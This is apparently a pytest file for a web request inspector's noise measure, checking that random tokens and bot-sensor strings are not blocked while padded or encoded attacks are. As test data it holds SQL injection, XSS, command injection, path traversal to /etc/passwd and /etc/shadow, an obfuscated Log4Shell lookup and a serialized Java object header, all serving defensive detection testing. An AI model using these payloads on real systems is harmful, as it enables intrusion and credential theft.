"""The noise measure (detection/noise.py): machine-made values excuse a few symbols
matched by chance, never an attack, however it is padded or encoded."""

from __future__ import annotations

import base64
import hashlib
from urllib.parse import quote

import pytest

from pynomaly_security.detection import Inspector
from pynomaly_security.detection.noise import incidental, machine_made
from tests.detection._helpers import form, query


def _random_bytes(seed: str, size: int) -> bytes:
    """Deterministic bytes that look random (a hash chain): binary data."""
    out = b""
    block = seed.encode()
    while len(out) < size:
        block = hashlib.sha512(block).digest()
        out += block
    return out[:size]


B64 = base64.b64encode(_random_bytes("blob", 300)).decode().lower()
HEX = _random_bytes("hex", 96).hex()
JWT = ".".join(
    base64.urlsafe_b64encode(part).decode().rstrip("=")
    for part in (b'{"alg":"HS256"}', _random_bytes("claims", 120), _random_bytes("s", 32))
).lower()
# Bot-detection sensor strings: random letters and digits between a few separators,
# made with a seeded generator for these tests (like Akamai's sensor_data fields).
SENSOR_PIPES = (
    "1;vTT,y:5|l8bAP:P:w-0st9;9M;I;FBZX|to2PhsxI,GNcRw8a6;w|xxd0Om,:j2mFOrDL2r;Da|6|RRs-"
    "PRwoRK,Vq-Q:lfZF;JMap|6:N9-5,4qnSXP-r9T;vTbj|P|ENJ:SU:3::NXv-twUjI:TqZxfYQafzX|4;t;"
    "Q9W78T-h-pcG7NQ,8j0f;N:-8|dXUMmN4gt-x;kZf:iMJL,Rmx|b3;H-Sh4;N|5LK-Mu-e:Q4y1z:oGqox"
)
SENSOR_QUOTES = "AxPs4Qf=j;;OqCD'=eGH\"qF=U==jgNr,iLpqQ=7p'PLBhdH\"'=g=4F'QQP'wT"


# -- what is machine-made ---------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(B64, id="base64-of-binary"),
        pytest.param(HEX, id="hex"),
        pytest.param(JWT, id="jwt-ish"),
        pytest.param(SENSOR_PIPES.lower(), id="sensor-string"),
    ],
)
def test_generated_values_are_machine_made(text: str) -> None:
    """Tokens, blobs and sensor strings (lower-cased, as the rules read them) are."""
    assert machine_made(text)


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("the quick brown fox jumps over the lazy dog " * 3, id="prose"),
        pytest.param("getelementbyidqueryselectorallinnerhtmladdeventlistener" * 2, id="words"),
        pytest.param("../" * 30 + "etc/passwd", id="traversal-repeats"),
        pytest.param("..2f" * 20 + "etc2fpasswd", id="encoded-traversal-repeats"),
        pytest.param("${${env:x:-j}${env:x:-n}${env:x:-d}${env:x:-i}:ldap://e.x/a}", id="log4j"),
        pytest.param("!function(e,t){var n=e.document;return n.getelementbyid(t)}" * 2, id="js"),
        pytest.param("a1b2c3d4", id="too-short"),
    ],
)
def test_written_values_are_not(text: str) -> None:
    """Prose, words, repeated obfuscation and readable code are not machine-made."""
    assert not machine_made(text)


# -- what a match inside one counts ------------------------------------------------


def test_a_few_common_symbols_in_a_sensor_string_are_incidental() -> None:
    """``'=`` amid a string of quotes and equals signs is chance."""
    text = SENSOR_QUOTES.lower()
    at = text.index("'=")
    assert incidental(text, at, at + 2)


@pytest.mark.parametrize(
    ("text", "match"),
    [
        pytest.param(B64[:100] + "'" + B64[100:200], "'", id="quote-in-base64"),
        pytest.param(B64[:100] + "${j${" + B64[100:200], "${j${", id="log4j-nesting-in-base64"),
        pytest.param(B64[:100] + "'or'" + B64[100:200], "'or'", id="keyword-in-base64"),
        pytest.param(B64[:100] + ";id;" + B64[100:200], ";id;", id="command-in-base64"),
        pytest.param(HEX + "</script><svg/onload=alert(1)>", "</script>", id="long-match"),
    ],
)
def test_attack_pieces_are_never_incidental(text: str, match: str) -> None:
    """A symbol the blob never uses, a word, or a long match is no chance hit."""
    at = text.index(match)
    assert not incidental(text, at, at + len(match))


# -- through the inspector ---------------------------------------------------------


@pytest.mark.parametrize("value", [SENSOR_PIPES, SENSOR_QUOTES])
def test_sensor_strings_are_not_blocked(value: str) -> None:
    """Sensor strings the rules match by chance pass; without the measure they did not."""
    assert Inspector(discount_noise=False).inspect(form(value, "sensor_data")).blocked
    assert not Inspector().inspect(form(value, "sensor_data")).blocked


@pytest.mark.parametrize(
    "value",
    [
        # -- padded with machine-made noise on both sides
        pytest.param(B64[:150] + "' OR 1=1-- " + B64[150:300], id="sqli-in-base64"),
        pytest.param(HEX + "'||(select pg_sleep(5))||'" + HEX, id="sqli-in-hex"),
        pytest.param(SENSOR_PIPES + "<svg/onload=alert(1)>" + SENSOR_PIPES, id="xss-in-sensor"),
        pytest.param(B64[:120] + ";cat /etc/passwd;" + B64[120:240], id="cmdi-in-base64"),
        pytest.param(JWT + "/../../../../etc/shadow", id="traversal-after-jwt"),
        pytest.param(
            "${zQ8-x:Wq:-}${j${k9:Pz3q:-n}${Lm2:vX-8:-d}${Tq:h4Z:-i}:${Wz:Q-1:-l}dap://h.x/a}",
            id="log4j-random-padding",
        ),
        # -- encoded: the measure reads the decoded text the rules read
        pytest.param(quote(quote("' UNION SELECT password FROM users--")), id="double-url"),
        pytest.param("&#x3c;script&#x3e;alert(document.cookie)&#x3c;/script&#x3e;", id="entities"),
        pytest.param(
            base64.b64encode(b"\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue").decode(),
            id="java-serialized-base64",
        ),
    ],
)
def test_attacks_padded_or_encoded_are_still_blocked(value: str) -> None:
    """Noise around an attack, or an encoding of it, is no excuse."""
    assert Inspector().inspect(query(value)).blocked
